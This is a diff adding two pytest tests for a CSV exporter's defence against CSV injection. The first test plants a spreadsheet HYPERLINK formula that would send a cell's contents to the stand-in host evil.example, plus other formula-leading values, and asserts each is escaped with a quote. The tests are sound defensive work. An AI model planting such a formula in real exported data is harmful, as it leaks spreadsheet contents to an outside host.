@@ -427,3 +427,45 @@ def test_csv_timestamps_are_written_as_postgresql_writes_them():
     assert tabular.pg_timestamp(datetime(2026, 3, 1, 9, 30, tzinfo=UTC)) == "2026-03-01 09:30:00+00"
     moment = datetime(2026, 3, 1, 9, 30, 0, 250000, tzinfo=UTC)
     assert tabular.pg_timestamp(moment) == "2026-03-01 09:30:00.25+00"
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_written_as_text(sample):
+    """CSV injection: a name or decision someone typed must not run as a formula in the
+    spreadsheet a compliance officer opens; the canonical column keeps the recorded value."""
+    planted = ledger.append(
+        "agent.decided",
+        actor=Actor("agent", "66", '=HYPERLINK("https://evil.example/?"&A1,"open")'),
+        body={"decision": "+approve", "confidence": 0.5},
+        team=("1", "@team"),
+        workflow=("2", "-flow"),
+    )
+    data, _ = run_export("csv", exporter=sample.compliance)
+    row = next(r for r in csv_rows(data) if int(r["seq"]) == planted.seq)
+    assert row["actor_name"] == '\'=HYPERLINK("https://evil.example/?"&A1,"open")'
+    assert (row["decision"], row["team_name"], row["workflow_name"]) == (
+        "'+approve",
+        "'@team",
+        "'-flow",
+    )
+    assert row["canonical"] == planted.canonical
+    assert json.loads(row["canonical"])["decision"] == "+approve"
+    assert row["agent_name"] == ""  # untouched when there is nothing to neutralise
+
+
+def test_the_row_by_row_csv_writes_what_copy_writes(sample):
+    """The path other databases take (keyset chunks, csv_line) and COPY give the same bytes,
+    formula-safe cells included."""
+    if connection.vendor != "postgresql":
+        pytest.skip("COPY is PostgreSQL's")
+    ledger.append(
+        "agent.decided",
+        actor=Actor("person", "7", "=cmd"),
+        body={"decision": "-1", "confidence": 0.25},
+    )
+    erase("cust-jane", reason="=request by email")
+    selection = select(DecisionFilter(), exporter=sample.compliance)
+    by_copy = b"".join(tabular._csv_by_copy(selection, tabular.Tally(), None))
+    by_rows = b"".join(tabular._csv_by_rows(selection, tabular.Tally(), None))
+    assert by_rows == by_copy
+    assert b"'=cmd" in by_copy
+    assert b"'=request by email" in by_copy
